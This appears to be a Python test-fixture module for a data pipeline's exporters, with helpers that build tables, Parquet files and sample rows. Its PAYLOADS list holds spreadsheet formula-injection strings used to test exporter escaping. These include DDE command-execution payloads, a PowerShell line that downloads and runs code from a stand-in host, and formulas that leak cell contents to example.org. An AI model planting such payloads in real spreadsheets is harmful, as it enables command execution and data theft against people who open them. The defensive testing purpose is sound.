"""Rows for trying exporters: tables made on the spot, and a small dataset of every table whose keys resolve."""

from collections.abc import Iterable, Iterator, Mapping
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
from hypothesis import strategies as st

from pipeline.tables.schema import Column, Table, load_tables

# Known ways to make a spreadsheet run what stands in a cell.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"see")',
    '=IMPORTXML(CONCAT("https://example.org/?v=",A1),"//a")',
    '+DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '"\'=1+1"',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget https://example.org/x)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=WEBSERVICE("https://example.org/"&A1)',
    '=IMPORTHTML("https://example.org","table",1)',
    '=IMPORTFEED("https://example.org/feed")',
    '=IMPORTRANGE("https://example.org","A1")',
    '=IMPORTDATA("https://example.org/?v="&A1)',
    '=IMAGE("https://example.org/?v="&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    '=CALL("Kernel32","WinExec","JCJ","calc",1)',
    '=EXEC("calc.exe")',
    '=REGISTER.ID("x","y")',
    "={1,2}",
    "=A1",
    "=-1",
    "+-1",
    "-@1",
    "@=1",
    "=\t1",
    "\t\t=1",
    "\x0b=1",
    "\x0c=1",
    "\x85=1",
    "\u2028=1",
    "\u2029=1",
    "\u3000=1",
    "\u00ad=1",
    "\u200e=1",
    "\u202e=1",
    "\u2060=1",
    "\x1f=1",
    "\x7f=1",
    "`=1",
    "“=1”",
    "‘=1’",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1)",
)
PLAIN = (
    "a=1",
    "born in 1867",
    "'tis",
    "'",
    "''",
    "10-11",
    "(+1)",
    "100%",
    "\u2013 dash",
    "–5",
    "a\n=1",
    "|cmd",
    "#N/A",
    "NULL",
)

any_text = st.text(st.characters(exclude_categories=["Cs"]), min_size=1)
hostile_text = st.text(st.sampled_from("'\"=+-@＝ \t\r\n,;\x00\ufeffaé"), min_size=1)


def make_table(*columns: Column, name: str = "things", key: tuple[str, ...] = (), view: bool = False) -> Table:
    """A table with the columns and nothing else to say."""
    return Table(
        name=name,
        title=name.capitalize(),
        description=f"All {name}.",
        group="Text",
        grain="thing",
        order=1,
        view=view,
        columns=columns,
        primary_key=key,
        sort_key=(),
        foreign_keys=(),
        evidence=None,
        json_schema={"properties": {column.name: {} for column in columns}},
    )


def text_column(name: str = "text", **about: Any) -> Column:
    """A column of free text."""
    return Column(name, f"The {name}.", "string", nullable=True, **about)


def typed_column(name: str, kind: str) -> Column:
    """A column of another type."""
    return Column(name, f"The {name}.", kind, nullable=True)


def batches(table: Table, rows: Iterable[Mapping[str, Any]], size: int = 7) -> Iterator[pa.RecordBatch]:
    """The rows in batches of a size."""
    return iter(table.arrow_table([dict(row) for row in rows]).to_batches(max_chunksize=size))


def stored(folder: Path, *tables_and_rows: tuple[Table, Iterable[Mapping[str, Any]]]) -> dict[str, list[Path]]:
    """The Parquet files into which the rows of each table were written; a row may lack any column."""
    files = {}
    for table, rows in tables_and_rows:
        made = table.arrow_table([dict(row) for row in rows])
        files[table.name] = [folder / f"{table.name}.parquet"]
        pq.write_table(pa.Table.from_arrays(made.columns, made.column_names), files[table.name][0])
    return files


def sample_rows(table: Table, count: int = 3) -> list[dict[str, Any]]:
    """Rows that the table's schema takes, whose foreign keys point to the sample rows of other tables."""
    return [{column.name: _value(table, column.name, n) for column in table.columns} for n in range(count)]


def _value(table: Table, name: str, n: int) -> Any:
    for key in table.foreign_keys:
        if name in key.columns:
            return _value(load_tables()[key.table], key.target[key.columns.index(name)], n)
    column = table.column(name)
    schema = table.json_schema["properties"][name]
    if column.nullable and n == 2:
        return None
    if column.enum:
        return column.enum[n % len(column.enum)]
    if column.type == "string":
        return _text(schema, name, n) if column.constrained else f"{PAYLOADS[n]} {name} {n}"
    return {
        "integer": schema.get("minimum", 0) + n,
        "number": min(n + 0.25, schema.get("maximum", n + 0.25)),
        "boolean": n % 2 == 0,
        "date": (date(1867, 11, 7) + timedelta(days=n * 20_000)).isoformat(),
    }[column.type]


def _text(schema: Mapping[str, Any], name: str, n: int) -> str:
    """A text for a pattern of one of the kinds that the schemas use."""
    length = schema.get("minLength", 1)
    if "edtf" in name or "pattern" not in schema:
        return str(1900 + n).rjust(length, "0")
    pattern: str = schema["pattern"].removeprefix("^")
    if "{" in pattern and not pattern.startswith("["):
        return pattern.partition("[")[0] + str(n).rjust(length - len(pattern.partition("[")[0]), "a")
    return {"[A-Z]{2}": "PL", "[A-Z]{3}": "EUR", "[A-Z][a-z]{3}": "Latn", "P": "P3Y"}[pattern]
